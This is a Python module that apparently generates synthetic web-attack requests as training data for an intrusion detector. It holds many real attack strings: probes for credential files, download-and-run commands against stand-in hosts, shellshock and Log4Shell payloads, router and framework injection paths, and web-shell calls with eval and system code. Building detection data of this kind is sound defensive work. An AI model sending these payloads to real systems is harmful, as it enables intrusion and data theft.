"""Grammars of attacks that bring their own path: searches for weak spots, worms with old holes, calls of web shells."""
# ruff: noqa: E501, PLR2004, S108 - these are attacks, and a payload is read as a whole

from __future__ import annotations

import base64
from dataclasses import replace
from random import Random
from urllib.parse import quote

from vedette.learning.datasets.web_attack_words import (
    COMMAND,
    FILES,
    LOOKUP,
    PROBE,
    SHELL,
    TEMPLATE,
    random_command,
    random_host,
    random_word,
)
from vedette.learning.datasets.web_carrier import Request, carried, encoded


def nuisance(rng: Random) -> Request:
    """Scanners that ask for files and pages which no link leads to."""
    base = rng.choice(
        ["", "", "", "/" + random_word(rng), "/app", "/web", "/backup", "/old", "/wp", "/blog", "/api", "/public"]
    )
    secret = [
        "/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.svn/entries",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.htpasswd",
        "/.htaccess",
        "/.DS_Store",
        "/wp-config.php.bak",
        "/wp-config.php~",
        "/config.php.old",
        "/.env.prod",
        "/.env.local",
        "/.vscode/sftp.json",
        "/id_rsa",
        "/server.key",
        "/backup.sql",
        "/dump.sql",
        "/db.sql.gz",
        "/backup.zip",
        "/site.tar.gz",
        "/WEB-INF/web.xml",
        "/.npmrc",
        "/docker-compose.yml",
        "/config.json.bak",
        "/database.sql",
        "/.bash_history",
        "/.hg/store",
        "/index.php.swp",
        "/credentials.json",
        "/appsettings.json",
        "/storage/logs/laravel.log",
        "/debug.log",
        "/secrets.yml",
        "/.docker/config.json",
        "/.kube/config",
        "/web.config.bak",
        "/configuration.php.bak",
        "/users.sql",
        "/.idea/workspace.xml",
        "/composer.lock",
        "/.gitignore",
        "/error_log",
    ]
    pages = [
        "/phpmyadmin/",
        "/pma/index.php",
        "/phpMyAdmin-4/",
        "/adminer.php",
        "/phpinfo.php",
        "/info.php",
        "/test.php",
        "/server-status",
        "/actuator/env",
        "/actuator/heapdump",
        "/actuator/gateway/routes",
        "/manager/html",
        "/host-manager/html",
        "/jmx-console/",
        "/invoker/JMXInvokerServlet",
        "/solr/admin/info/system",
        "/_cat/indices",
        "/druid/index.html",
        "/nacos/v1/auth/users",
        "/v1/agent/self",
        "/debug/pprof/",
        "/trace.axd",
        "/elmah.axd",
        "/telescope/requests",
        "/_profiler/phpinfo",
        "/HNAP1/",
        "/boaform/admin/formLogin",
        "/cgi-bin/.%2e/%2e%2e/bin/sh",
        "/evox/about",
        "/nmaplowercheck1600000000",
        "/currentsetting.htm",
        "/wp-admin/install.php",
        "/wp-admin/setup-config.php",
        "/xmlrpc.php?rsd",
        "/jolokia/list",
        "/portal/redlion",
        "/mgmt/tm/util/bash",
        "/GponForm/diag_Form?images/",
        "/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/lib/phpunit/Util/PHP/eval-stdin.php",
        "/_ignition/execute-solution",
        "/wls-wsat/CoordinatorPortType",
        "/autodiscover/autodiscover.json?@x.example/owa/",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        "/wp-content/plugins/revslider/temp/update_extract/",
        "/fckeditor/editor/filemanager/connectors/php/connector.php",
        "/solr/core0/config",
        "/webtools/control/main",
        "/mifs/.;/services/LogService",
        "/vpn/../vpns/cfg/smb.conf",
    ]
    tools = [
        "sqlmap/1.7.{d}#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00{n})",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "gobuster/3.{d}",
        "Fuzz Faster U Fool v2.{d}.0",
        "WPScan v3.8.{d} (https://wpscan.com/wordpress-security-scanner)",
        "Wfuzz/3.{d}",
        "DirBuster-1.0-RC1",
        "feroxbuster/2.{d}",
        "Acunetix-Scanner",
        "ZmEu",
        "Morfeus Scanner",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Arachni/v1.{d}",
        "w3af.org",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Wget(linux)",
        "Hello, world",
        "Mozilla/5.0 (compatible; OpenVAS-VT 2{d}.4)",
        "commix/3.{d}",
        "Havij",
        "XSSer",
        "dalfox/2.{d}",
        "libredtail-http",
        "l9explore/1.2.2",
        "WhatWeb/0.5.{d}",
    ]
    made = carried(rng, PROBE, "1")
    way = rng.random()
    if way < 0.45:
        return replace(made, path=base + rng.choice(secret), query=None)
    if way < 0.8:
        path, _, query = (base + rng.choice(pages)).partition("?")
        return replace(made, path=path, query=query or None)
    told = rng.choice(tools).format(d=rng.randint(0, 9), n=rng.randint(1000, 9999))
    return replace(made, agent=told, query=rng.choice([made.query, None]))


def botnet(rng: Random) -> Request:
    """Worms that spread over routers, cameras and servers with old holes."""
    h, w = random_host(rng), random_word(rng, 3, 6)
    fetch = rng.choice(
        [
            f"cd /tmp; rm -rf *; wget http://{h}/{w}.sh; chmod 777 {w}.sh; sh {w}.sh",
            f"wget+http://{h}/{w}+-O+/tmp/{w};+chmod+777+/tmp/{w};+/tmp/{w}",
            f"cd+/tmp;wget+http://{h}/{w}.arm7;chmod+777+*;./{w}.arm7",
            f"busybox wget http://{h}/{w} -O- | sh",
            f"curl -O http://{h}/{w}; chmod +x {w}; ./{w}",
            f"tftp -g -r {w} {h}",
            f"cd /var/tmp && curl -s http://{h}/{w}.sh | bash",
            f"rm+-rf+/tmp/*;wget+http://{h}/Mozi.m+-O+/tmp/netgear;sh+netgear",
        ]
    )
    enc = fetch if "+" in fetch else quote(fetch, safe=rng.choice(["", ";/:*"]))
    path, query, kind = rng.choice([
        ("/shell", enc, COMMAND), ("/setup.cgi", f"next_file=netgear.cfg&todo=syscmd&cmd={enc}&curpath=/&currentsetting.htm=1", COMMAND), ("/cgi-bin/nas_sharing.cgi", f"dbg=1&cmd=51&user=root&passwd=&f_url={enc}", COMMAND), ("/cgi-bin/;" + enc.replace("+", "${IFS}"), None, COMMAND), ("/index.php", f"s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]={enc}", COMMAND), ("/index.php", f"s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]={enc}", COMMAND), ("/cgi-bin/luci/;stok=/locale", f"form=country&operation=write&country=$({enc})", COMMAND), ("/goform/set_LimitClient_cfg", f"time1=00:00-00:00&time2=`{enc}`", COMMAND), ("/boaform/admin/formPing", f"target_addr=;{enc}/&waninf=1_INTERNET", COMMAND), ("/GponForm/diag_Form", f"images/&XWebPageName=diag&diag_action=ping&dest_host=`{enc}`", COMMAND),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", None, FILES), ("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd", None, FILES), ("/hello.world", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", COMMAND), ("/index.php", "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", COMMAND), ("/index.php", "lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(\"hi\"));?>+/tmp/index1.php", FILES), ("/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession", FILES), ("/tmUnblock.cgi", f"submit_button=&ttcp_ip=-h+`{enc}`", COMMAND), ("/board.cgi", f"cmd={enc}", COMMAND), ("/stssys.htm", f"x=$({enc})", COMMAND), ("/picdesc.xml", f"NewExternalPort=1&NewInternalClient=`{enc}`", COMMAND), ("/language/Swedish${IFS}&&" + enc.replace("+", "${IFS}").replace("%20", "${IFS}") + "&&tar${IFS}/string.js", None, COMMAND), ("/manager/radius/server_ping.php", f"ip=127.0.0.1|{enc}&id=1", COMMAND), ("/cgi-bin/supervisor/CloudSetup.cgi", f"exefile={enc}", COMMAND), ("/device.rsp", f"opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc={enc}", COMMAND), ("/actuator/gateway/routes/" + w, f"f={quote('#{T(java.lang.Runtime).getRuntime().exec(x)}')}", TEMPLATE), ("/", f"x=${{jndi:ldap://{h}/Exploit}}", LOOKUP), ("/solr/admin/cores", f"action=${{jndi:ldap://{h}/a}}", LOOKUP), ("/login.action", "redirect:" + quote("${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}"), TEMPLATE), ("/vpn/../vpns/portal/scripts/newbm.pl", None, FILES), ("/mgmt/shared/..;/tmui/login.jsp", None, FILES), ("/autodiscover/autodiscover.json", "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz", PROBE), ("/public/index.php", "s=/index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1", COMMAND), ("/wp-admin/admin-ajax.php", "action=revslider_show_image&img=../wp-config.php", FILES), ("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", "pl=/etc/passwd", FILES), ("/download.php", "file=../../wp-config.php", FILES),
    ])  # fmt: skip
    made = carried(rng, kind, "1")
    return replace(
        made,
        path=path,
        query=query,
        agent=rng.choice(
            [
                made.agent,
                made.agent,
                "Hello, world",
                None,
                "() { :; }; /bin/bash -c '" + fetch.replace("+", " ") + "'",
                "Mozi",
                "curl/7.3.2",
            ]
        ),
        referrer=None,
    )


def intruder(rng: Random) -> Request:
    """Somebody who calls the web shells that he left behind, or looks for those of others."""
    command, w = random_command(rng), random_word(rng)
    folder = rng.choice(
        [
            "/uploads/",
            "/images/",
            "/wp-content/uploads/2024/05/",
            "/tmp/",
            "/files/",
            "/assets/",
            "/upload/",
            "/media/",
            "/avatar/",
            "/userfiles/",
            "/aspnet_client/",
            "/owa/auth/",
            "/wp-includes/css/",
            "/static/",
            "/.well-known/",
            "/img/",
            "/",
        ]
    )
    extension = rng.choice(
        ["php", "php", "php", "php5", "phtml", "jsp", "jsp", "jspx", "aspx", "aspx", "asp", "ashx", "cfm"]
    )
    known = rng.choice(
        [
            "c99",
            "r57",
            "wso",
            "b374k",
            "shell",
            "cmd",
            "webshell",
            "alfa",
            "up",
            "antsword",
            "x",
            "1",
            "backdoor",
            "cmdshell",
            "evil",
            "mini",
            "aspxspy",
            "hack",
            "simple-backdoor",
            "jspspy",
            "chopper",
            "tiny",
            "uploader",
            "wp-shell",
        ]
    )
    field = rng.choice(
        ["cmd", "c", "exec", "command", "x", "e", "run", "shell", "pass", "code", "0", "a", "sh", "q", "do", "system"]
    )
    way = rng.random()
    made = carried(rng, SHELL, "1")
    if way < 0.3:
        return replace(
            made,
            path=f"{folder}{known}.{extension}",
            query=rng.choice([None, f"{field}={encoded(rng, command)}", "act=ls", f"pass={w}"]),
            referrer=None,
        )
    if way < 0.6:
        return replace(made, path=f"{folder}{w}.{extension}", query=f"{field}={encoded(rng, command)}", referrer=None)
    if way < 0.8:
        code = rng.choice(
            [
                f"system('{command}');",
                "phpinfo();",
                f"eval(base64_decode('{base64.b64encode(command.encode()).decode()}'))",
                f"passthru('{command}')",
                f"Response.Write(new ActiveXObject('WScript.Shell').exec('{command}'))",
                f"@eval($_POST['{w}']);",
                "print_r(scandir('/'))",
                f"file_put_contents('{w}.php',base64_decode('PD9waHA='))",
            ]
        )
        return replace(
            made,
            path=f"{rng.choice([folder, '/'])}{rng.choice([known, w, 'index', 'config'])}.{extension}",
            query=f"{rng.choice([field, w, 'z0'])}={encoded(rng, code)}",
            referrer=None,
        )
    return carried(
        rng,
        SHELL,
        command,
        name=field,
        path=rng.choice(["/index.php", "/api/exec", "/console", "/tools/ping", "/debug", f"/{w}.{extension}"]),
    )
